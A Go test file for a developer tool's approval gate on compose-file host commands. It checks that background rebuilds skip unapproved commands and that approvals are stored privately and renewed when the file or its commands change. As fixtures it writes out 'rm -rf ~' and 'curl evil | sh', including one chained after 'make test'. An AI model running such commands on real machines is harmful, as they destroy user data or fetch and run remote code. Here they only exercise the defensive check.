package scratch

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"devstack/engine/event"
	"devstack/engine/load"
	"devstack/engine/model"
)

// A check with `run:` is a command the compose file runs on this
// machine. The dashboard's background rebuilds never run one the user
// has not approved: they skip it and say so in their result. Once
// approved (as `devstack scratch` remembers an answer), it runs.
func TestBackgroundRebuildsSkipUnapprovedHostChecks(t *testing.T) {
	rt := newRuntime(t)
	fx := newFixture(t, rt, "host-check")
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	p, err := load.Load(ctx, fx.loadOptions())
	if err != nil {
		t.Fatal(err)
	}
	rec := &event.Recorder{}
	s, err := Background(Options{Runtime: rt, Load: fx.loadOptions(), Project: p, Sink: rec, Timeout: time.Minute})
	if err != nil {
		t.Fatal(err)
	}
	s.Start(ctx)
	defer s.Wait()
	defer cancel()
	marker := filepath.Join(fx.dir, "ran-on-host")

	done := func(n int) event.Scratch {
		t.Helper()
		seen := 0
		e, ok := rec.Wait(time.Now().Add(3*time.Minute), func(e event.Event) bool {
			if s, ok := e.(event.Scratch); ok && s.Phase == "done" {
				seen++
			}
			return seen == n
		})
		if !ok {
			t.Fatalf("rebuild %d did not finish: %v", n, rec.Events())
		}
		return e.(event.Scratch)
	}

	if !s.RunNow() {
		t.Fatal("no rebuild started")
	}
	first := done(1)
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("a background rebuild ran a host command nobody approved")
	}
	if first.Status != StatusPass || !strings.Contains(first.Detail, "not approved") {
		t.Fatalf("the result does not say the host check was skipped: %+v", first)
	}
	if rep := s.Last(); rep == nil || len(rep.Notes) == 0 || !strings.Contains(rep.Notes[0], "leaves a mark on the host") {
		t.Fatalf("the report does not name the skipped check: %+v", rep)
	}

	approvals, err := DefaultApprovals()
	if err != nil {
		t.Fatal(err)
	}
	if err := approvals.Record(p, p.Ext.Scratch.Checks, true); err != nil {
		t.Fatal(err)
	}
	if !s.RunNow() {
		t.Fatal("no second rebuild started")
	}
	if second := done(2); second.Status != StatusPass {
		t.Fatalf("the approved rebuild: %+v", second)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("the approved host check did not run: %v", err)
	}
}

func hostCheckProject(t *testing.T, run string) *model.Project {
	t.Helper()
	dir := t.TempDir()
	file := filepath.Join(dir, "compose.yaml")
	if err := os.WriteFile(file, []byte("services: {}\n# "+run+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return &model.Project{Name: "shop", WorkingDir: dir, ConfigFiles: []string{file},
		Ext: model.Extension{Scratch: model.ScratchConfig{Checks: []model.ScratchCheck{
			{Name: "in a container", Service: "app", Command: []string{"true"}},
			{Name: "on the host", Run: run},
		}}}}
}

// Answers are remembered per compose file content: the same file is not
// asked about again, an edited one is.
func TestApprovalsAreKeptPerComposeFileContent(t *testing.T) {
	a := OpenApprovals(filepath.Join(t.TempDir(), "state", "host-checks"))
	p := hostCheckProject(t, "make test")
	checks := p.Ext.Scratch.Checks
	if decided, _, err := a.Decision(p, checks); err != nil || decided {
		t.Fatalf("a new project is decided already: %v %v", decided, err)
	}
	if err := a.Record(p, checks, true); err != nil {
		t.Fatal(err)
	}
	if decided, allowed, err := a.Decision(p, checks); err != nil || !decided || !allowed {
		t.Fatalf("approval not remembered: %v %v %v", decided, allowed, err)
	}
	// A declined answer is remembered too.
	q := hostCheckProject(t, "rm -rf ~")
	if err := a.Record(q, q.Ext.Scratch.Checks, false); err != nil {
		t.Fatal(err)
	}
	if decided, allowed, _ := a.Decision(q, q.Ext.Scratch.Checks); !decided || allowed {
		t.Fatalf("a refusal is not remembered: %v %v", decided, allowed)
	}
	// The file edited: asked again.
	if err := os.WriteFile(p.ConfigFiles[0], []byte("services: {}\n# curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if decided, _, _ := a.Decision(p, checks); decided {
		t.Fatal("an edited compose file counts as approved")
	}
	// The commands changed without the file (an .env interpolating
	// them): asked again.
	if err := os.WriteFile(p.ConfigFiles[0], []byte("services: {}\n# make test\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if decided, _, _ := a.Decision(p, checks); !decided {
		t.Fatal("the original file is no longer approved")
	}
	changed := append([]model.ScratchCheck(nil), checks...)
	changed[1].Run = "make test; curl evil | sh"
	if decided, _, _ := a.Decision(p, changed); decided {
		t.Fatal("a changed command counts as approved")
	}
	// Kept privately.
	entries, _ := os.ReadDir(a.dir)
	if len(entries) != 2 {
		t.Fatalf("answers kept: %v", entries)
	}
	for _, e := range entries {
		if fi, _ := e.Info(); fi.Mode().Perm() != 0o600 {
			t.Errorf("%s is %v, want 0600", e.Name(), fi.Mode().Perm())
		}
	}
	if fi, _ := os.Stat(a.dir); fi.Mode().Perm() != 0o700 {
		t.Errorf("%s is %v, want 0700", a.dir, fi.Mode().Perm())
	}
}

// What a rebuild does with unapproved host checks: skip them (the
// background), ask (a terminal), refuse (a command line without one), or
// run them when allowed outright.
func TestHostCheckPolicy(t *testing.T) {
	cases := []struct {
		name    string
		policy  func(a *Approvals) HostChecks
		prior   *bool // an answer recorded before
		run     bool
		refused bool
		asked   bool
	}{
		{name: "nobody to ask: skipped", policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a} }},
		{name: "no store at all: skipped", policy: func(*Approvals) HostChecks { return HostChecks{} }},
		{name: "refused without a terminal", policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Refuse: true} }, refused: true},
		{name: "allowed outright", policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Allow: true, Refuse: true} }, run: true},
		{name: "approved before", prior: ptr(true), policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Refuse: true} }, run: true},
		{name: "declined before", prior: ptr(false), policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Refuse: true} }},
		{name: "asked: yes", policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Ask: answer(true), Refuse: true} }, asked: true, run: true},
		{name: "asked: no", policy: func(a *Approvals) HostChecks { return HostChecks{Approvals: a, Ask: answer(false), Refuse: true} }, asked: true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := OpenApprovals(filepath.Join(t.TempDir(), "host-checks"))
			p := hostCheckProject(t, "make test")
			if c.prior != nil {
				if err := a.Record(p, p.Ext.Scratch.Checks, *c.prior); err != nil {
					t.Fatal(err)
				}
			}
			policy := c.policy(a)
			asked := false
			if policy.Ask != nil {
				ask := policy.Ask
				policy.Ask = func(project string, checks []model.ScratchCheck) (bool, error) {
					asked = true
					if project != "shop" || len(checks) != 1 || checks[0].Run != "make test" {
						t.Errorf("asked about %s %+v", project, checks)
					}
					return ask(project, checks)
				}
			}
			run, note, err := policy.decide(p, p.Ext.Scratch.Checks)
			if c.refused {
				if err == nil || !strings.Contains(err.Error(), "--allow-host-checks") || !strings.Contains(err.Error(), "make test") {
					t.Fatalf("not refused with a way out: %v", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if asked != c.asked {
				t.Fatalf("asked: %v, want %v", asked, c.asked)
			}
			if run != c.run || (!run && !strings.Contains(note, "on the host")) {
				t.Fatalf("run %v (note %q), want %v", run, note, c.run)
			}
			if c.asked {
				// The answer is remembered: not asked again.
				if decided, allowed, _ := a.Decision(p, p.Ext.Scratch.Checks); !decided || allowed != c.run {
					t.Fatalf("the answer was not remembered: %v %v", decided, allowed)
				}
			}
		})
	}
}

func ptr[T any](v T) *T { return &v }

func answer(yes bool) func(string, []model.ScratchCheck) (bool, error) {
	return func(string, []model.ScratchCheck) (bool, error) { return yes, nil }
}
